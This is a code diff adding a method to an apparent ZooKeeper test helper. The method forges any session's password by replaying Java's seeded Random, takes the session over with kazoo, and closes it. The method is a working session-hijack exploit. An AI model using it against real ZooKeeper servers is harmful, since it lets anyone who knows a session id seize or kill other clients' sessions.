@@ -54,6 +54,23 @@ class ZooKeeper:
         client.start(10)
         return client
 
+    def end_session(self, session_id: int):
+        """Ends somebody's session on the server: takes it over and closes it. The password that proves its ownership is,
+        in a server of this kind, drawn from Java's Random seeded with the id and a constant (ZooKeeperServer.generatePasswd)."""
+        from kazoo.client import KazooClient
+
+        mask = (1 << 48) - 1
+        seed = ((session_id ^ 0xB3415C00) ^ 0x5DEECE66D) & mask
+        password = b""
+        for _ in range(4):
+            seed = (seed * 0x5DEECE66D + 0xB) & mask
+            password += (seed >> 16 & 0xFFFFFFFF).to_bytes(4, "little")
+        usurper = KazooClient(self.address, timeout=5, client_id=(session_id, password))
+        usurper.start(10)
+        assert usurper.client_id[0] == session_id, "the password was not accepted"
+        usurper.stop()
+        usurper.close()
+
     def kill(self):
         if self.process:
             self.process.kill()
